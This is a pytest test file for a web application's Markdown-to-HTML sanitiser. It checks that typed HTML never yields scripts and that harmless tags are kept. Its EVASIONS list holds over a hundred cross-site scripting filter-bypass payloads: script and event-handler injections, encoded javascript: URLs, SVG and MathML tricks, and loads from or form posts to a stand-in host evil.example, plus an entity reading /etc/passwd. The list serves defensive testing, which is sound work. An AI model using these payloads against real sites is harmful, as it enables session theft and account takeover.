"""A few harmless tags are kept in a body, and nothing that could run a script, whatever an author types."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webapp import markdown
from webapp.markdown.html import TAGS

# The tags and attributes that the renderer writes itself, beside the kept tags.
WRITTEN = TAGS | set("blockquote code dd div dl dt em h2 h3 h4 h5 h6 hr input label li ol p pre s strong ul".split())
ATTRIBUTES = set("alt checked class dir disabled href id loading role src start title type".split())

# Each kind of the well-known ways around filters: tags, events, addresses, encodings, broken and nested markup.
EVASIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script src=//evil.example/x.js <b>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</td><script>alert(1)</script>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<details><summary><script>alert(1)</script></summary></details>",
    "<figure>\n<script>alert(1)</script>\n</figure>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    "<img src=x onerror=alert(1)>",
    "<img src=/images/a.svg onerror=alert(1)>",
    '<img src="/images/a.svg"onerror="alert(1)">',
    '<img src="/images/a.svg" alt="x"onload=alert(1)//">',
    "<img/src=/images/a.svg/onerror=alert(1)>",
    "<img src=/images/a.svg\tonerror\n=\nalert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src= onmouseover=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<img srcset='//evil.example/x 1x' src=/images/a.svg>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=https://evil.example/pixel.gif>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/x" onclick="alert(1)">x</a>',
    '<a href="/x" href="javascript:alert(1)">x</a>',
    "<a href='/x' style='x:expression(alert(1))'>x</a>",
    "<a onmouseover=alert(document.cookie)>x</a>",
    '<a href="/x\u2028onclick=alert(1)">x</a>',
    '<a href="/x&quot; onclick=&quot;alert(1)">x</a>',
    '<img alt="&quot;><script>alert(1)</script>" src="/images/a.svg">',
    "<details open ontoggle=alert(1)>x</details>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<td background=javascript:alert(1)>x",
    "<br size=&{alert(1)}>",
    "<kbd style=background:url(javascript:alert(1))>x</kbd>",
    "<sub class=x id=main autofocus tabindex=1 onfocus=alert(1)>x</sub>",
    "<sup/onclick=alert(1)>x</sup>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<xss id=x onfocus=alert(1) tabindex=1>",
    "<template><script>alert(1)</script></template>",
    "</p></div></main><script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    '![a](/images/a.svg "x\\" onload=alert(1)")',
    "[a]: javascript:alert(1)\n\n[a]",
    "a[^1]\n\n[^1]: <script>alert(1)</script> <img src=/images/a.svg onerror=alert(1)>",
    '- [x] <script>alert(1)</script>" onclick="alert(1)',
    "Term<script>\n: <svg onload=alert(1)>",
    "https://x.example/\"onclick='alert(1)'><script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "<s\u0000cript>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


class _Auditor(HTMLParser):
    """Collects what a browser would make of the HTML that is not on the list."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in WRITTEN:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(name)
            if name == "src" and not (value or "").startswith("/images/"):
                self.wrong.append(f"src={value}")
            if name == "href" and not (value or "").startswith(("/", "#", "http://", "https://", "mailto:")):
                self.wrong.append(f"href={value}")
            if name == "href" and (value or "").startswith("//"):
                self.wrong.append(f"href={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    handle_decl = unknown_decl = handle_pi = handle_comment


def wrong(html: str) -> list[str]:
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.wrong


@pytest.mark.parametrize("typed", EVASIONS)
@pytest.mark.parametrize(
    "around", ["{}", "Text {} text.", "- {}", "<table><tr><td>\n{}", "<br> {}", "| a |\n| - |\n| {} |"]
)
def test_whatever_is_typed_is_words_and_never_a_script(typed: str, around: str) -> None:
    assert not wrong(markdown.to_html(around.format(typed)))
    for block in markdown.block_html(around.format(typed)):
        assert not wrong(block)


def test_the_audit_finds_what_is_forbidden() -> None:
    assert len(wrong('<script><img src="//x"><a href="//x" onclick="x">')) == 1  # the rest is text of the script
    assert len(wrong('<img src="//x"><a href="//x" onclick="x"><a href="javascript:x"><!-- x -->')) == 5


PIECES = st.sampled_from(
    [
        "<",
        ">",
        "</",
        "/>",
        "<!--",
        "-->",
        '"',
        "'",
        "=",
        " ",
        "\n",
        "\n\n",
        "- ",
        "> ",
        "|",
        "[^1]",
        "[^1]: ",
        ": ",
        "a",
    ]
    + [f"<{tag}" for tag in sorted(TAGS)]
    + [f"</{tag}>" for tag in sorted(TAGS)]
    + ["<script", "</script>", "<style>", " onload=x", " href=javascript:x", " src=/images/a.svg", "<svg>", "<!", "<?"]
)


@given(st.lists(PIECES, max_size=30).map("".join))
def test_any_mixture_of_tags_is_safe_html(body: str) -> None:
    assert not wrong(markdown.to_html(body))
    for finding in markdown.html_findings(body):
        assert 0 <= finding.start <= len(body)


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("H<sub>2</sub>O<br>x<SUP>2</SUP>", "H<sub>2</sub>O<br>x<sup>2</sup>"),
        ("<kbd>Ctrl</kbd> *a*", "<kbd>Ctrl</kbd> <em>a</em>"),
        ("a <!-- b\nc --> d", "a  d"),
        ('<a href="/x?a=1&amp;b">y</a>', '<a href="/p/x?a=1&amp;b">y</a>'),
        ("<a href='mailto:a@b.example'>y</a>", '<a href="mailto:a@b.example">y</a>'),
        ('<img src="/images/a.svg" alt="x > y" width=5>', '<img src="/p/images/a.svg" alt="x &gt; y" loading="lazy">'),
        ('<img src="//x.example/a.png" alt="A picture">', "A picture"),
        ("<details>\n<summary>More</summary>\n\n*Text*\n\n</details>", '<summary>More</summary>\n<p dir="auto"><em>'),
        ("<table>\n<tr><td>a<td>b\n</table>\n\nAfter", '<td>a</td><td>b\n</td></tr></tbody></table>\n<p dir="auto">A'),
    ],
)
def test_harmless_tags_are_kept(body: str, html: str) -> None:
    assert html in markdown.to_html(body, "/p", "/p".__add__)


@pytest.mark.parametrize("body", ["<div>*a*</div>", '<p class="a">"b"', "<b>x</b> --", "<!-- open", "<Card x={y}>"])
def test_other_html_is_shown_as_typed(body: str) -> None:
    tag = markdown.html_findings(body)[0]
    assert tag.outcome == "as typed"
    assert tag.text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;") in markdown.to_html(body)


def test_a_comment_is_left_out_even_over_several_paragraphs() -> None:
    assert markdown.to_text("a\n\n<!-- b\n\n```\n\nc -->\n\nd") == "a d"


def test_a_tag_that_is_never_closed_ends_with_the_body() -> None:
    assert markdown.to_html("<details>\n<summary>a").endswith("</details>")


def test_findings_have_the_position_of_the_tag() -> None:
    body = "`<b>` and <b>\n\n> <i>\n> <u>x</u>\n\n| <em> | <em> |\n| - | - |\n\n```\n<s>\n```\n\n"
    body += "<table class=a>\n<tr onclick=b>\n\n</table>\n\n<kbd>"
    found = markdown.html_findings(body)
    assert [body[html.start : html.start + len(html.text)] for html in found] == [html.text for html in found]
    texts = ["<b>", "<i>", "<u>", "</u>", "<em>", "<em>", "<table class=a>", "<tr onclick=b>", "<kbd>"]
    assert [html.text for html in found] == texts
    assert found[0].start == 10
    assert len({html.start for html in found}) == len(found)
    assert [html.removed for html in found[6:]] == [("class",), ("onclick",), ()]
    assert found[-1].outcome == "not closed"


def test_links_and_pictures_in_html_count() -> None:
    body = '<figure>\n<img alt="a > b" src="/images/a.svg">\n</figure>\n\n<a href=/images/b.svg>b</a>'
    body += ' <a title="x" href="/c">c</a>'
    assert [(link.address, body[link.start : link.end], link.is_picture) for link in markdown.links(body)] == [
        ("/images/a.svg", "/images/a.svg", True),
        ("/images/b.svg", "/images/b.svg", False),
        ("/c", "/c", False),
    ]
    assert [link.address for link in markdown.pictures(body)] == ["/images/a.svg", "/images/b.svg"]
    assert [link.address for link in markdown.pictures("<IMG src=x.png>")] == ["x.png"]
    resolved = markdown.resolve_links(body, "/p", "/s".__add__, "")
    assert 'src="/s/images/a.svg"' in resolved
    assert 'href="/p/c"' in resolved


def test_words_in_cells_are_apart_and_words_in_tags_of_a_text_are_not() -> None:
    assert markdown.to_text("<table><tr><td>a</td><td>b</td></tr></table>\n\nH<sub>2</sub>O<br>x") == "a b H2O x"
    assert markdown.to_text('<img src="/images/a.svg" alt="A picture"> <!-- no -->') == "A picture"
